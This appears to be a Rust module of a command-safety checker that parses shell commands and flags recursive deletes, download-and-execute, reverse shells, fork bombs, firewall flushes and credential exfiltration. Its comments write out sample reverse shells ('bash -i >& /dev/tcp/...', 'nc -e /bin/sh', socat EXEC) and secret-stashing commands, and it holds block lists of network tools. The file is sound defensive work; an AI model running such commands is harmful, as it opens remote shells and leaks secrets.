//! The exec gate: rule families over the programs a shell command runs.
//!
//! The command is parsed and analysed by [`crate::shell`], so the rules see
//! programs and their arguments, never text: `echo reboot later` runs `echo`,
//! `grep -r "rm -rf" docs/` runs `grep`, and a file whose content mentions
//! `rm -rf /` is data. Each finding names its rule and quotes the simple
//! command it came from as the parser printed it, with the wrappers it was
//! unwrapped from.
//!
//! Rule families (see [`super::rules`] for names and defaults):
//! recursive deletes of critical targets, outside the workspace, or of
//! targets only known at run time; formatting devices (not image files) and
//! raw device writes (see [`super::devices`]);
//! download-and-execute (piped into a shell or interpreter, substituted into
//! `bash -c`/`eval`, process-substituted, or saved and then run); fork bombs;
//! shutdown and reboot; firewall flushes; world-writable or setuid modes,
//! owner changes and permissions taken from system trees (see
//! [`super::permissions`]); credential files, environment dumps and
//! secret exports (see [`crate::shell::secrets`]) sent to a network command;
//! programs whose name is unknown until run time; code built at run time
//! from anything but a download (`echo ... | base64 -d | sh`,
//! `eval "$(tool init)"`), which is asked; and commands the parser refuses.
//! Inline code of other languages (`python3 -c`, `pwsh -enc`, see
//! [`crate::shell::interpreters`]) is judged by the same rules through what
//! it spawns, deletes, reads and sends, plus fork loops and reverse shells. Paths the command reads and writes also go through the
//! path guard's protected-path and workspace checks.

use super::Finding;
use super::path_guard::Places;
use super::protected::{Access, Protect};
use super::rules;
use crate::config::reader::shorten;
use crate::paths;
use crate::prelude::*;
use crate::shell::ast::RedirectOp;
use crate::shell::commands::{self, Analysis, Arg, Invocation, ProblemKind, Redir};
use crate::shell::interpreters::Effect;
use crate::shell::programs::{Names, Table};
use crate::shell::secrets::{self, SecretOutput};
use crate::shell::{self, ErrorKind, ParseError, Script};

/// Programs that send data over the network: clients, mailers, and name
/// lookups (a secret spelled into a name is sent to its name server).
pub const NETWORK: Names = Names::new(&[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "tftp", "http",
    "https", "xh", "aria2c", "openssl", "mail", "mailx", "sendmail", "mutt", "s-nail", "msmtp", "dig", "nslookup",
    "host", "drill",
]);

pub(super) fn quote(inv: &Invocation) -> String {
    Quoted(inv).to_string()
}

/// An invocation as a reason quotes it: its segment, shortened, and the
/// wrappers it came through. Written out only when a reason is.
pub struct Quoted<'a>(pub &'a Invocation);

impl core::fmt::Display for Quoted<'_> {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        let inv = self.0;
        f.write_str("`")?;
        write_shortened(f, &inv.segment.printed())?;
        f.write_str("`")?;
        if let Some((first, rest)) = inv.via.split_first() {
            write!(f, " (run through {first}")?;
            for v in rest {
                write!(f, ", {v}")?;
            }
            f.write_str(")")?;
        }
        Ok(())
    }
}

fn write_shortened(f: &mut core::fmt::Formatter<'_>, text: &str) -> core::fmt::Result {
    match text.char_indices().nth(MAX_QUOTED_CHARS) {
        None => f.write_str(text),
        Some((end, _)) => {
            f.write_str(text.get(..end).unwrap_or(text))?;
            f.write_str("…")
        }
    }
}

/// Longest segment quoted in a reason, in characters.
pub const MAX_QUOTED_CHARS: usize = 200;

fn shorten_segment(text: &str) -> String {
    if text.chars().count() <= MAX_QUOTED_CHARS {
        return text.to_string();
    }
    let mut out: String = text.chars().take(MAX_QUOTED_CHARS).collect();
    out.push('…');
    out
}

fn finding(rule: &'static str, reason: String) -> Finding {
    Finding { rule, reason }
}

/// A command with what parsing it gave.
pub type Parsed<'a> = (&'a str, Result<Script, ParseError>);

/// Judges a shell command run in `cwd`.
pub fn check(places: &Places<'_>, command: &str, cwd: Option<&str>) -> Vec<Finding> {
    check_parsed(places, &shell::parse(command), cwd)
}

/// Judges a shell command run in `cwd`, parsed.
pub fn check_parsed(places: &Places<'_>, parsed: &Result<Script, ParseError>, cwd: Option<&str>) -> Vec<Finding> {
    let script = match parsed {
        Ok(s) => s,
        Err(e) => {
            let rule = if e.kind == ErrorKind::Syntax { rules::EXEC_UNPARSABLE } else { rules::EXEC_TOO_COMPLEX };
            return vec![finding(
                rule,
                format!("The command could not be parsed as shell ({e}), so what it would run is unknown."),
            )];
        }
    };
    let secret = |p: &str| {
        places.protected_by(p, Access::Read).is_some()
            || super::self_guard::protected_by(places, p).is_some()
            || secrets::is_environ(p)
    };
    let context = commands::Context { cwd, home: places.home, secret: &secret };
    let analysis = commands::analyse(script, &context);
    let mut out = Vec::new();
    for problem in &analysis.problems {
        let rule = match problem.kind {
            ProblemKind::Unparsable => rules::EXEC_UNPARSABLE,
            ProblemKind::TooComplex => rules::EXEC_TOO_COMPLEX,
        };
        out.push(finding(rule, format!("`{}`: {}.", shorten_segment(&problem.segment), problem.detail)));
    }
    // Files the command fills with secrets, for the network commands that may send them on.
    let stashed = if analysis.invocations.iter().any(|i| NETWORK.has(&i.program)) {
        stashed_secrets(places, &analysis)
    } else {
        Vec::new()
    };
    for (index, inv) in analysis.invocations.iter().enumerate() {
        recursive_delete(places, inv, &mut out);
        let formatted = super::devices::check(&analysis, inv, places.home, &mut out);
        download_execute(&analysis, index, inv, &mut out);
        remote_shell(&analysis, index, inv, &mut out);
        fork_bomb(inv, &mut out);
        shutdown(inv, &mut out);
        firewall(inv, &mut out);
        super::infrastructure::check(inv, &mut out);
        super::permissions::check(places, inv, &mut out);
        super::privileges::check(inv, &mut out);
        exfiltration(places, &analysis, &stashed, inv, &mut out);
        effects(inv, &mut out);
        if !inv.argv.is_empty() && inv.argv.first().is_some_and(|a| a.known().is_none()) {
            let raw = inv.argv.first().map(|a| a.raw.as_str()).unwrap_or("");
            out.push(finding(
                rules::EXEC_DYNAMIC_PROGRAM,
                format!(
                    "{} runs a program named by `{}`, which is only known when it runs.",
                    Quoted(inv),
                    shorten(raw)
                ),
            ));
        }
        super::self_guard::invocation(places, inv, &Quoted(inv), &mut out);
        if formatted.is_empty() {
            touched_paths(places, inv, &mut out);
        } else {
            // The image files a formatter changes are writes like any other.
            let mut with_images = inv.clone();
            with_images.writes.extend(formatted);
            touched_paths(places, &with_images, &mut out);
        }
    }
    out
}

pub(super) fn options(argv: &[Arg]) -> impl Iterator<Item = &str> {
    argv.iter().skip(1).filter_map(Arg::known).take_while(|t| *t != "--").filter(|t| t.starts_with('-') && t.len() > 1)
}

pub(super) fn operands(argv: &[Arg]) -> Vec<&Arg> {
    let mut out = Vec::new();
    let mut after_dashes = false;
    for a in argv.iter().skip(1) {
        match a.known() {
            Some("--") if !after_dashes => after_dashes = true,
            Some(t) if !after_dashes && t.starts_with('-') && t.len() > 1 => {}
            _ => out.push(a),
        }
    }
    out
}

fn has_flag(argv: &[Arg], short: char, long: &[&str]) -> bool {
    options(argv).any(|o| if o.starts_with("--") { long.contains(&o) } else { o.chars().skip(1).any(|c| c == short) })
}

fn recursive_delete(places: &Places<'_>, inv: &Invocation, out: &mut Vec<Finding>) {
    // `rimraf` (Node's `rm -rf`, often run through `npx`) deletes every operand recursively.
    let rimraf = inv.program == "rimraf" || inv.program.starts_with("rimraf@");
    if inv.program != "rm" && !rimraf {
        return;
    }
    let recursive = rimraf || has_flag(&inv.argv, 'r', &["--recursive"]) || has_flag(&inv.argv, 'R', &[]);
    if !recursive {
        return;
    }
    if options(&inv.argv).any(|o| o == "--no-preserve-root") {
        out.push(finding(
            rules::EXEC_RECURSIVE_DELETE,
            format!("{} deletes recursively with `--no-preserve-root`.", Quoted(inv)),
        ));
    }
    for target in operands(&inv.argv) {
        // An empty operand names no file: `rm` only reports it.
        if target.known() == Some("") {
            continue;
        }
        match target.path() {
            Some(t) => {
                let path = places.home.normalize(&t, inv.cwd.as_deref());
                if paths::is_critical_target(&path) && !places.strictly_inside_workspace(&path) {
                    out.push(finding(
                        rules::EXEC_RECURSIVE_DELETE,
                        format!("{} deletes `{path}` recursively.", Quoted(inv)),
                    ));
                } else if !places.writable(&path) && !inv.elsewhere {
                    out.push(finding(
                        rules::EXEC_RECURSIVE_DELETE_OUTSIDE,
                        format!("{} deletes `{path}` recursively, outside the workspace.", Quoted(inv)),
                    ));
                }
            }
            None => out.push(finding(
                rules::EXEC_RECURSIVE_DELETE_DYNAMIC,
                format!(
                    "{} deletes `{}` recursively; what that is is only known when it runs.",
                    Quoted(inv),
                    shorten(&target.raw)
                ),
            )),
        }
    }
}

fn download_execute(analysis: &Analysis, index: usize, inv: &Invocation, out: &mut Vec<Finding>) {
    // Downloaded content: from a downloader, or from a program reading a downloaded file (`cat x.sh | sh`).
    let from_code = inv.code_from.iter().any(|r| r.clone().any(|i| analysis.yields_download(i)));
    let from_pipe = inv.runs_stdin && analysis.fed_download(inv);
    let saved = inv.runs_files.iter().find(|f| analysis.downloaded(f, index));
    if from_code || from_pipe {
        out.push(finding(rules::EXEC_DOWNLOAD_EXECUTE, format!("{} runs code it downloads.", Quoted(inv))));
    } else if let Some(file) = saved {
        out.push(finding(
            rules::EXEC_DOWNLOAD_EXECUTE,
            format!("{} runs `{file}`, which the command downloaded.", Quoted(inv)),
        ));
    } else if !inv.code_from.is_empty()
        || inv.code_unknown
        || (inv.runs_stdin && analysis.invocations.iter().any(|other| analysis.upstream(other, inv)))
    {
        out.push(finding(
            rules::EXEC_DYNAMIC_CODE,
            format!("{} runs code that is only known when the command runs.", Quoted(inv)),
        ));
    }
}

/// Whether a normalized path is a network socket bash opens (`/dev/tcp/HOST/PORT`).
fn is_socket(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// A shell or interpreter wired to the network, which then runs whatever the
/// other end sends: its input or output a socket (`bash -i >& /dev/tcp/h/p
/// 0>&1`, `sh < /dev/tcp/h/p`, `source /dev/tcp/h/p`, a descriptor an earlier
/// `exec 5<>/dev/tcp/h/p` opened), its input piped from a network client
/// (`nc h p | sh`) or its output piped to one (`sh -i 2>&1 | nc h p`), or a
/// network tool told to run a program for its peer (`nc -e /bin/sh`,
/// `ncat --sh-exec`, `socat TCP:h:p EXEC:sh`).
fn remote_shell(analysis: &Analysis, index: usize, inv: &Invocation, out: &mut Vec<Finding>) {
    let runs_socket = inv.runs_files.iter().any(|f| is_socket(f));
    // A downloader piped into a shell is `download_execute`'s finding, not a second one.
    let network = |o: &Invocation| NETWORK.has(&o.program) && !o.class.is(Table::Downloader);
    // Only a shell's output piped to the network is taken for a remote shell: an interpreter
    // reading a here-document (`python3 - <<EOF … | curl -d @-`) sends what the script prints.
    let shell = inv.class.is(Table::Shell);
    let wired = inv.runs_stdin
        && (inv
            .redirects
            .iter()
            .any(|r| r.path.as_deref().is_some_and(is_socket) || opened_socket(analysis, index, r))
            || analysis
                .invocations
                .iter()
                .any(|o| network(o) && (analysis.upstream(o, inv) || (shell && analysis.upstream(inv, o)))));
    // A shell reading a file a network client writes (`sh -i < /tmp/f 2>&1 | nc h p > /tmp/f`).
    let fed_by_network =
        inv.runs_files.iter().any(|f| analysis.invocations.iter().any(|o| network(o) && o.writes.contains(f)));
    if runs_socket || wired || fed_by_network || runs_for_peer(inv) {
        out.push(finding(
            rules::EXEC_DOWNLOAD_EXECUTE,
            format!("{} connects a shell to the network, which runs whatever the other end sends.", Quoted(inv)),
        ));
    }
}

/// Whether `r` points a descriptor at one an earlier invocation opened on a
/// socket (`exec 5<>/dev/tcp/h/p; sh <&5`).
fn opened_socket(analysis: &Analysis, index: usize, r: &Redir) -> bool {
    if !matches!(r.op, RedirectOp::DupIn | RedirectOp::DupOut) {
        return false;
    }
    let Some(fd) = r.target.known().and_then(|t| t.parse::<u32>().ok()) else { return false };
    analysis
        .within(&(0..index))
        .iter()
        .any(|earlier| earlier.redirects.iter().any(|o| o.fd == Some(fd) && o.path.as_deref().is_some_and(is_socket)))
}

/// A network tool told to run a program for its peer: netcat's `-e`/`-c`
/// (also in a cluster, `-lvpe`), ncat's `--exec`/`--sh-exec`/`--lua-exec`,
/// socat with an `EXEC:`/`SYSTEM:` address next to a network one.
fn runs_for_peer(inv: &Invocation) -> bool {
    let words = || inv.argv.iter().skip(1).filter_map(Arg::known);
    match inv.program.as_str() {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => words().any(|w| {
            ["--exec", "--sh-exec", "--lua-exec"]
                .iter()
                .any(|o| w == *o || w.strip_prefix(o).is_some_and(|r| r.starts_with('=')))
                || w.strip_prefix('-').is_some_and(|c| !c.starts_with('-') && c.contains(['e', 'c']))
        }),
        "socat" => {
            let lower: Vec<String> = words().map(str::to_ascii_lowercase).collect();
            let runs =
                lower.iter().any(|w| w.starts_with("exec:") || w.starts_with("system:") || w.starts_with("shell:"));
            let remote = ["tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "dccp"];
            runs && lower.iter().any(|w| remote.iter().any(|r| w.starts_with(r)))
        }
        _ => false,
    }
}

fn fork_bomb(inv: &Invocation, out: &mut Vec<Finding>) {
    let Some(function) = &inv.function else { return };
    if inv.program == *function && (!inv.pipes.is_empty() || inv.background) {
        out.push(finding(
            rules::EXEC_FORK_BOMB,
            format!("{} makes function `{function}` spawn copies of itself without end.", Quoted(inv)),
        ));
    }
}

fn shutdown(inv: &Invocation, out: &mut Vec<Finding>) {
    let program = inv.program.as_str();
    if !matches!(
        program,
        "shutdown" | "reboot" | "halt" | "poweroff" | "init" | "telinit" | "systemctl" | "kill" | "pkill"
    ) && inv.writes.is_empty()
    {
        return;
    }
    let args: Vec<&str> = inv.argv.iter().skip(1).filter_map(Arg::known).collect();
    // Only `--help` or `--version` and nothing else (but the verb, for systemctl) prints and
    // exits: after `--`, or as an option's value, it would not. `shutdown -c` cancels one.
    let printing = |a: &&str| matches!(*a, "--help" | "--version");
    let prints = args.iter().filter(|a| !printing(a)).count() <= usize::from(program == "systemctl")
        && args.iter().any(printing);
    let hit = match program {
        _ if prints => false,
        "shutdown" | "reboot" | "halt" | "poweroff" => !args.contains(&"-c"),
        "init" | "telinit" => args.iter().any(|a| matches!(*a, "0" | "6")),
        "systemctl" => args.iter().any(|a| matches!(*a, "poweroff" | "reboot" | "halt" | "kexec" | "emergency")),
        // `kill 1` ends init; `kill -9 -1` every process of the user.
        "kill" | "pkill" => operands(&inv.argv).iter().any(|a| matches!(a.known(), Some("1"))) || args.contains(&"-1"),
        _ => false,
    } || inv.writes.iter().any(|p| p == "/proc/sysrq-trigger");
    if hit {
        out.push(finding(rules::EXEC_SHUTDOWN, format!("{} shuts down or reboots the machine.", Quoted(inv))));
    }
}

/// Programs [`firewall`] looks at.
const FIREWALLS: Names = Names::new(&[
    "iptables",
    "ip6tables",
    "iptables-legacy",
    "iptables-nft",
    "ip6tables-legacy",
    "ip6tables-nft",
    "nft",
    "ufw",
    "pfctl",
    "systemctl",
    "service",
    "netsh",
]);

fn firewall(inv: &Invocation, out: &mut Vec<Finding>) {
    if !FIREWALLS.has(&inv.program) {
        return;
    }
    let args: Vec<&str> = inv.argv.iter().skip(1).filter_map(Arg::known).collect();
    let has = |w: &str| args.contains(&w);
    let hit = match inv.program.as_str() {
        "iptables" | "ip6tables" | "iptables-legacy" | "iptables-nft" | "ip6tables-legacy" | "ip6tables-nft" => {
            has("-F")
                || has("--flush")
                || has("-X")
                || args.iter().any(|a| a.starts_with("-F") && a.len() <= 3 && *a != "-F")
                || args.windows(3).any(|w| matches!(w, ["-P", _, "ACCEPT"]))
        }
        "nft" => args.windows(2).any(|w| matches!(w, ["flush", "ruleset"] | ["delete", "table"])),
        "ufw" => has("disable") || has("reset"),
        "pfctl" => has("-d") || args.windows(2).any(|w| matches!(w, ["-F", "all"])),
        "systemctl" | "service" => {
            let firewall = args.iter().any(|a| {
                matches!(a.trim_end_matches(".service"), "firewalld" | "ufw" | "nftables" | "iptables" | "ip6tables")
            });
            firewall && args.iter().any(|a| matches!(*a, "stop" | "disable" | "mask" | "kill"))
        }
        "netsh" => args.windows(2).any(|w| matches!(w, ["state", "off"])),
        _ => false,
    };
    if hit {
        out.push(finding(rules::EXEC_FIREWALL_FLUSH, format!("{} turns off or flushes the firewall.", Quoted(inv))));
    }
}

/// Programs that read a directory they are given whole: archivers and
/// synchronizers always, the others with a recursive option.
const WHOLE_DIRECTORY_READERS: &[&str] = &["tar", "bsdtar", "zip", "7z", "7za", "rsync", "rclone"];
const RECURSIVE_READERS: &[&str] = &["scp", "cp", "grep", "rg", "egrep", "fgrep", "sftp", "gsutil", "aws", "az"];

/// Whether `inv` reads the directories it names with everything in them.
fn reads_whole_directories(inv: &Invocation) -> bool {
    let program = inv.program.as_str();
    if WHOLE_DIRECTORY_READERS.contains(&program) {
        return true;
    }
    RECURSIVE_READERS.contains(&program)
        && inv.argv.iter().skip(1).filter_map(Arg::known).any(|a| {
            matches!(a, "--recursive" | "-r" | "-R" | "-a" | "--archive")
                || (a.starts_with('-') && !a.starts_with("--") && a.contains(['r', 'R']))
        })
}

/// Where secret data a sender handles comes from, named for the reason.
/// A file the command writes secrets into, and what they are: `env > /tmp/e`,
/// `tar czf /tmp/h.tgz ~`, `cp ~/.ssh/id_rsa /tmp/k`, `env | tee /tmp/e`.
/// Sending such a file on is sending the secret (`curl -T /tmp/h.tgz …`).
fn stashed_secrets(places: &Places<'_>, analysis: &Analysis) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for inv in &analysis.invocations {
        let archive = archive_created(inv).map(|a| places.home.normalize(a, inv.cwd.as_deref()));
        if inv.writes.is_empty() && archive.is_none() {
            continue;
        }
        let vendor = || {
            inv.argv
                .iter()
                .chain(inv.redirects.iter().map(|r| &r.target))
                .filter(|a| a.text.is_none())
                .flat_map(|a| secrets::vendor_variables(&a.raw))
                .map(|s| s.what)
                .next()
        };
        let upstream = || {
            analysis.invocations.iter().filter(|o| analysis.upstream(o, inv)).find_map(|o| {
                reads_secret(places, &out, o).or_else(|| o.secret_output.as_ref().map(|s| s.what.clone()))
            })
        };
        let source = reads_secret(places, &out, inv)
            .or_else(|| inv.secret_output.as_ref().map(|s| s.what.clone()))
            .or_else(vendor)
            .or_else(upstream)
            .or_else(|| inv.secret_input.then(|| "data from a protected file or a secret".to_string()));
        if let Some(what) = source {
            for w in inv.writes.iter().chain(&archive) {
                if !w.starts_with("/dev/") {
                    out.push((w.clone(), what.clone()));
                }
            }
        }
    }
    out
}

/// The archive `tar` (`c` in its key letters or an option cluster, `-f F`,
/// `--file F`) or `zip` (its first operand) creates, as written.
fn archive_created(inv: &Invocation) -> Option<&str> {
    let words: Vec<&str> = inv.argv.iter().skip(1).filter_map(Arg::known).collect();
    match inv.program.as_str() {
        "tar" | "bsdtar" | "gtar" => {
            let first = words.first()?;
            let creates = words.iter().any(|w| matches!(*w, "--create" | "--append"))
                || (!first.starts_with("--") && first.trim_start_matches('-').contains(['c', 'r']));
            if !creates {
                return None;
            }
            words.iter().enumerate().find_map(|(i, w)| {
                if let Some(file) = w.strip_prefix("--file=") {
                    return Some(file);
                }
                let cluster = w.strip_prefix('-').unwrap_or(if i == 0 { w } else { "" });
                (*w == "--file" || (!cluster.starts_with('-') && cluster.ends_with('f')))
                    .then(|| words.get(i + 1).copied())
                    .flatten()
            })
        }
        "zip" => words.iter().find(|w| !w.starts_with('-')).copied(),
        _ => None,
    }
}

/// The secret `i` reads: a protected path, a process's environment, a whole
/// folder holding a protected path, or a file the command filled with secrets.
fn reads_secret(places: &Places<'_>, stashed: &[(String, String)], i: &Invocation) -> Option<String> {
    let whole = reads_whole_directories(i);
    i.reads.iter().find_map(|p| {
        if places.protected_by(p, Access::Read).is_some() || secrets::is_environ(p) {
            return Some(format!("`{p}`"));
        }
        if let Some((_, what)) = stashed.iter().find(|(f, _)| f == p) {
            return Some(format!("`{p}`, which holds {what}"));
        }
        let held = if whole { super::protected::held_in(places.protected, p) } else { None };
        held.map(|glob| format!("`{p}`, which holds the protected path `{glob}`"))
    })
}

fn secret_source(
    places: &Places<'_>,
    analysis: &Analysis,
    stashed: &[(String, String)],
    inv: &Invocation,
) -> Option<String> {
    let reads_secret = |i: &Invocation| reads_secret(places, stashed, i);
    // A vendor's token sent only to the vendor's hosts is used, not leaked.
    let hosts: Vec<String> = inv.argv.iter().filter_map(Arg::known).filter_map(secrets::url_host).collect();
    let printed = |s: &SecretOutput| (!secrets::only_vendor_hosts(s, &hosts)).then(|| s.what.clone());
    let substituted = || {
        inv.argv
            .iter()
            .chain(inv.redirects.iter().map(|r| &r.target))
            .flat_map(|a| a.subs.iter().chain(&a.procs))
            .find_map(|r| {
                analysis
                    .within(r)
                    .iter()
                    .find_map(|i| i.secret_output.as_ref().and_then(printed).or_else(|| reads_secret(i)))
            })
    };
    // A vendor's credential expanded from the environment into the words of a
    // program: the sender's own arguments, or what a program piped into it prints.
    // With no known host and a destination only known at run time
    // (`"$GITHUB_API_URL/repos"`), where the credential goes cannot be told.
    let unknown_destination = hosts.is_empty()
        && inv.argv.iter().skip(1).any(|a| a.text.is_none() && secrets::vendor_variables(&a.raw).is_empty());
    let variables = |i: &Invocation| {
        if unknown_destination {
            return None;
        }
        i.argv
            .iter()
            .chain(i.redirects.iter().map(|r| &r.target))
            .filter(|a| a.text.is_none())
            .flat_map(|a| secrets::vendor_variables(&a.raw))
            .find_map(|s| printed(&s))
    };
    let upstream = || {
        analysis.invocations.iter().filter(|other| analysis.upstream(other, inv)).find_map(|other| {
            reads_secret(other)
                .or_else(|| other.secret_output.as_ref().and_then(printed))
                .or_else(|| variables(other))
                .or_else(|| other.secret_input.then(|| "data from a protected file or a secret".to_string()))
        })
    };
    reads_secret(inv)
        .or_else(|| inv.secret_output.as_ref().and_then(printed))
        .or_else(|| variables(inv))
        .or_else(substituted)
        .or_else(upstream)
        .or_else(|| inv.secret_input.then(|| "data from a protected file or a secret".to_string()))
}

fn exfiltration(
    places: &Places<'_>,
    analysis: &Analysis,
    stashed: &[(String, String)],
    inv: &Invocation,
    out: &mut Vec<Finding>,
) {
    let socket = inv.writes.iter().any(|p| p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/"));
    if !NETWORK.has(&inv.program) && !socket && !inv.effects.contains(&Effect::Sends) {
        return;
    }
    if let Some(source) = secret_source(places, analysis, stashed, inv) {
        out.push(finding(
            rules::EXEC_CREDENTIAL_EXFILTRATION,
            format!("{} sends {source} over the network.", Quoted(inv)),
        ));
    }
}

/// What inline code of another language does, other than the commands it spawns.
fn effects(inv: &Invocation, out: &mut Vec<Finding>) {
    if inv.effects.contains(&Effect::ForkLoop) {
        out.push(finding(rules::EXEC_FORK_BOMB, format!("{} forks in an endless loop.", Quoted(inv))));
    }
    if inv.effects.contains(&Effect::DownloadRun) {
        out.push(finding(rules::EXEC_DOWNLOAD_EXECUTE, format!("{} runs code it downloads.", Quoted(inv))));
    }
    if inv.effects.contains(&Effect::RemoteShell) {
        out.push(finding(
            rules::EXEC_DOWNLOAD_EXECUTE,
            format!("{} connects a shell to the network, which runs whatever the other end sends.", Quoted(inv)),
        ));
    }
}

fn touched_paths(places: &Places<'_>, inv: &Invocation, out: &mut Vec<Finding>) {
    // Each path is split once for both checks; the self-guard's findings come
    // first, so the protected paths' wait in `later` (which stays unallocated
    // when nothing matches).
    let mut later = Vec::new();
    // git matches the patterns it is given against hidden names too.
    let dots = match places.dots {
        crate::paths::Dots::Hidden if inv.program == "git" => crate::paths::Dots::Pathspec,
        dots => dots,
    };
    let reads = inv.reads.iter().map(|p| (p, Access::Read));
    for (path, access) in reads.chain(inv.writes.iter().map(|p| (p, Access::Write))) {
        let split = crate::paths::SplitPath::new(path);
        out.extend(super::self_guard::touched(places, &Quoted(inv), path, &split));
        if let Some(hit) = places.protected_by_split_with(&split, access, dots) {
            let verb = match (hit.protect, access) {
                (Protect::Both, _) => "touches",
                (_, Access::Read) => "reads",
                (_, Access::Write) => "writes",
            };
            later.push(finding(
                hit.rule(),
                format!("{} {verb} `{path}`, which matches {} `{}`.", Quoted(inv), hit.what(), hit.glob),
            ));
        }
    }
    out.append(&mut later);
    // The workspace bounds what is written here, not on another host or in a container.
    for path in inv.writes.iter().filter(|_| !inv.elsewhere) {
        if !places.writable(path) {
            out.push(finding(
                rules::PATH_OUTSIDE_WORKSPACE,
                format!("{} writes `{path}`, outside the workspace.", Quoted(inv)),
            ));
        }
    }
}
